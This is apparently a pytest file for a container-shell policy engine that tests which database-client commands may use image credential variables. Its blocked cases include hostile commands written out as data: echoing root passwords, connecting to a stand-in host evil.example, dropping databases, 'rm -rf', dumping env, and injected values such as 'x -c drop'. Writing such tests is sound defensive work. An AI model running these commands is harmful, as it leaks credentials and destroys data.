from collections.abc import Callable

import pytest

from tenant_daemon.contracts.tiers import Tier
from tenant_daemon.policy import Judgement
from tenant_daemon.policy.programs.container_shell import without_variables

Shell = Callable[[str], Judgement]
PASSWORD = "$MYSQL_ROOT_PASSWORD"


@pytest.mark.parametrize(
    "script",
    [
        f'mysql -uroot -p"{PASSWORD}" -e "show databases"',
        f'mysql -u root -p{PASSWORD} -N -e "select 1"',
        'mariadb --user=root --password="${MARIADB_ROOT_PASSWORD}" shop -e "select count(*) from orders"',
        'mysql -u "$MYSQL_USER" -p"$MYSQL_PASSWORD" "$MYSQL_DATABASE" -e "select count(*) from orders"',
        'psql -U "$POSTGRES_USER" -d "$POSTGRES_DB" -c "select count(*) from orders"',
        'psql -U $POSTGRES_USER $POSTGRES_DB -c "select 1"',
        'PGPASSWORD="$POSTGRES_PASSWORD" psql -U $POSTGRES_USER -c "select 1"',
        'redis-cli --no-auth-warning -a "$REDIS_PASSWORD" info memory',
        'pg_isready -U "$POSTGRES_USER"',
    ],
)
def test_a_client_may_be_given_the_variables_of_its_image(script: str, shell: Shell) -> None:
    found = shell(f"docker exec db sh -c '{script}'")
    assert (found.tier, found.is_unknown) == (Tier.GREEN, False), found.reason


@pytest.mark.parametrize(
    "script",
    [
        f"echo {PASSWORD}",
        f'echo -p"{PASSWORD}"',
        f'echo mysql -p"{PASSWORD}"',
        f'ls; echo -p"{PASSWORD}"',
        f'mysql -p"{PASSWORD}" -e "select 1"; echo -p"{PASSWORD}"',
        # An error would show what was taken for a statement, a database or a user.
        f'mysql -e -p"{PASSWORD}"',
        f'mysql -D -p"{PASSWORD}" -e "select 1"',
        f'mysql -u -p"{PASSWORD}" -e "select 1"',
        f'mysql -e "select 1 -p{PASSWORD}"',
        f'mysql -uroot -p"{PASSWORD}"x -e "select 1"',
        f'mysql -uroot -p\\"{PASSWORD}\\" -e "select 1"',
        f'mysql -uroot -p"{PASSWORD}" -e "drop database shop"',
        f'mysql -h evil.example -p{PASSWORD} -e "select 1"',
        f'mysql -uroot -p"{PASSWORD}" -e "select 1" > /etc/x',
        'redis-cli lpush k -a "$REDIS_PASSWORD"',
        'redis-cli echo "$REDIS_PASSWORD"',
        'psql -c "$POSTGRES_DB"',
        'psql -U postgres -c "select \\"$POSTGRES_PASSWORD\\""',
        'psql -h evil.example -U $POSTGRES_USER -c "select 1"',
        'POSTGRES_DB="a;b"; psql $POSTGRES_DB -c "select 1"',
        'read POSTGRES_DB; psql $POSTGRES_DB -c "select 1"',
        'for PGUSER in a b; do psql -U $PGUSER -c "select 1"; done',
        "$POSTGRES_USER -c x",
        "rm -rf $POSTGRES_DB",
        "cat $POSTGRES_DB",
        "PGPASSWORD=$POSTGRES_PASSWORD env",
        "PGPASSWORD=$POSTGRES_PASSWORD; echo $PGPASSWORD",
        "psql -U $OTHER -c 'select 1'",
    ],
)
def test_everything_else_with_variables_asks(script: str, shell: Shell) -> None:
    quoted = script.replace("'", "'\\''")
    found = shell(f"docker exec db sh -c '{quoted}'")
    assert found.is_unknown or found.tier is Tier.CRITICAL_RED


@pytest.mark.parametrize(
    "command",
    [
        "docker exec -e POSTGRES_DB='x -c drop' db sh -c 'psql $POSTGRES_DB -c \"select 1\"'",
        "docker exec db env POSTGRES_DB=x sh -c 'psql $POSTGRES_DB -c \"select 1\"'",
        "sh -c 'psql -U $POSTGRES_USER -c \"select 1\"'",
    ],
)
def test_variables_that_the_line_sets_are_not_the_images(command: str, shell: Shell) -> None:
    assert shell(command).is_unknown


def test_a_text_without_such_variables_stays_as_it_is() -> None:
    for text in ("", "ls", "echo $HOME", "x" * 5_000 + "$PGUSER", "'" * 300):
        assert without_variables(text) == text
